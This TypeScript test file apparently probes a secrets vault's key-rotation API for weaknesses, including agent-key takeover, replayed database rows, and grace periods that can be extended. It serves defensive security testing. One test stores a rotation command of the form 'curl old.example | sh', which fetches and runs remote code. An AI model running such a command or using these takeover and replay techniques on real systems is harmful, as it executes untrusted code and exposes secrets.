import { afterEach, describe, expect, it } from 'vitest';
import { createAgent, fakeClock, issueToken, startTestVault, type TestVault } from '../helpers/vault.js';

let v: TestVault | undefined;
afterEach(async () => { await v?.cleanup(); v = undefined; });

async function setup(backend: 'sqlite' | 'postgres' = 'sqlite') {
  const clock = fakeClock();
  v = await startTestVault({ backend, now: clock });
  const admin = v.adminToken;
  const call = (method: string, p: string, body?: unknown, token = admin) => (v as TestVault).call(method, p, { token, body });
  await call('PUT', '/v1/secrets/app/key', { value: 'canary-old-value', type: 'api_key', tier: 'critical' });
  return { vault: v, clock, admin, call };
}
async function rotate(call: any, path: string, value: string, grace = '10m') {
  const id = (await call('POST', `/v1/rotation/begin/${path}`, { rotator: 'random' })).body.rotationId;
  await call('PUT', `/v1/rotation/pending/${path}`, { rotationId: id, value });
  return call('POST', `/v1/rotation/finish/${path}`, { rotationId: id, grace });
}

describe('attack', () => {
  it('A1 superseded agent key (in overlap) rotates the key again: takeover', async () => {
    const { vault, call } = await setup();
    const leaked = await createAgent(vault, 'ci', ['secrets:read:app/*']);
    const legit = (await call('POST', '/v1/agents/ci/key', { grace: '1h' })).body.agentKey; // admin rotates because key leaked
    const stolen = await call('POST', '/v1/agents/ci/key', { grace: 0 }, leaked);
    console.log('A1 rotate with old key:', stolen.status);
    expect(stolen.status).toBe(200);
    console.log('A1 legit new key whoami:', (await call('GET', '/v1/whoami', undefined, legit)).status);
    console.log('A1 attacker new key whoami:', (await call('GET', '/v1/whoami', undefined, stolen.body.agentKey)).status);
  });

  it('A2 storage writer deletes secret_stages: previous readable after grace, pending readable as plain version', async () => {
    const { vault, call, clock } = await setup();
    await rotate(call, 'app/key', 'canary-new', '10m');
    clock.advance(11 * 60_000);
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).toBe(404);
    await vault.sql('DELETE FROM secret_stages');
    const r = await call('GET', '/v1/secrets/app/key?version=1');
    console.log('A2 after delete v1:', r.status, r.body?.value);
    // pending
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-pending' });
    expect((await call('GET', '/v1/secrets/app/key?version=3')).status).toBe(404);
    const saved = await vault.sql('SELECT * FROM secret_stages');
    await vault.sql('DELETE FROM secret_stages');
    const p = await call('GET', '/v1/secrets/app/key?version=3');
    console.log('A2 pending as plain version:', p.status, p.body?.value);
  });

  it('A2b replay of an older stages row (taken mid-rotation, before finish)', async () => {
    const { vault, call, clock } = await setup();
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-new' });
    const [row] = await vault.sql('SELECT * FROM secret_stages') as any[];
    await call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace: '10m' });
    clock.advance(11 * 60_000);
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).toBe(404);
    await vault.sql(`UPDATE secret_stages SET rotation_id='${row.rotation_id}', rotator='${row.rotator}', lease_until=${row.lease_until}, pending_version=${row.pending_version}, previous_version=NULL, previous_until=NULL, updated_at=${row.updated_at}, mac='${row.mac}'`);
    const r = await call('GET', '/v1/secrets/app/key?version=1');
    console.log('A2b replayed stages v1:', r.status, r.body?.value ?? r.body?.error?.message);
  });

  it('A3 second rotation re-opens versions whose grace already ended', async () => {
    const { call, clock } = await setup();
    await rotate(call, 'app/key', 'canary-v2', '10m');
    clock.advance(11 * 60_000);
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).toBe(404);
    await rotate(call, 'app/key', 'canary-v3', '30d');
    const r = await call('GET', '/v1/secrets/app/key?version=1');
    console.log('A3 v1 after 2nd rotation:', r.status, r.body?.value);
  });

  it('A4 storage writer replays an older policy row (old command) after admin changed it', async () => {
    const { vault, call } = await setup();
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'command', settings: { command: 'curl old.example | sh' }, grace: '30d' });
    const [old] = await vault.sql('SELECT * FROM rotation_policies') as any[];
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'command', settings: { command: 'echo safe' }, grace: '1m' });
    await vault.sql(`UPDATE rotation_policies SET settings='${old.settings}', grace_seconds=${old.grace_seconds}, updated_at=${old.updated_at}, mac='${old.mac}'`);
    const r = await call('GET', '/v1/rotation/policies');
    console.log('A4 listed:', r.status, JSON.stringify(r.body?.policies?.[0]?.settings), r.body?.policies?.[0]?.graceSeconds);
  });

  it('A5 rotate-only token: grace chosen by rotator up to 30d, overriding policy', async () => {
    const { vault, call, clock } = await setup();
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'random', grace: '1m' });
    const key = await createAgent(vault, 'svc', ['secrets:*:app/*']);
    const rot = (await issueToken(vault, key, { scopes: ['secrets:rotate:app/key'] })).token;
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' }, rot)).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-new' }, rot);
    const f = await call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace: '30d' }, rot);
    console.log('A5 finish:', f.status, f.body.previousUntil);
  });

  it('A6 rotation id squatting: id of another path', async () => {
    const { call } = await setup();
    await call('PUT', '/v1/secrets/app/other', { value: 'x' });
    const r1 = await call('POST', '/v1/rotation/begin/app/other', { rotator: 'random', rotationId: 'squatsquatsquat1' });
    const r2 = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', rotationId: 'squatsquatsquat1' });
    console.log('A6', r1.status, r1.text.slice(0, 200), r2.status, r2.text.slice(0, 300));
  });

  it('A7 delete mid-rotation then recreate', async () => {
    const { call, clock } = await setup();
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-pend' });
    const d = await call('DELETE', '/v1/secrets/app/key');
    const f = await call('POST', '/v1/rotation/finish/app/key', { rotationId: id });
    const p = await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-pend2' });
    const w = await call('PUT', '/v1/secrets/app/key', { value: 'recreated' });
    console.log('A7', d.status, f.status, f.text.slice(0, 150), p.status, p.text.slice(0, 150), w.status, w.text.slice(0, 150));
    clock.advance(16 * 60_000);
    const w2 = await call('PUT', '/v1/secrets/app/key', { value: 'recreated' });
    console.log('A7 after lease', w2.status, w2.text.slice(0, 200));
    console.log('A7 read', (await call('GET', '/v1/secrets/app/key')).text.slice(0, 200));
  });
});
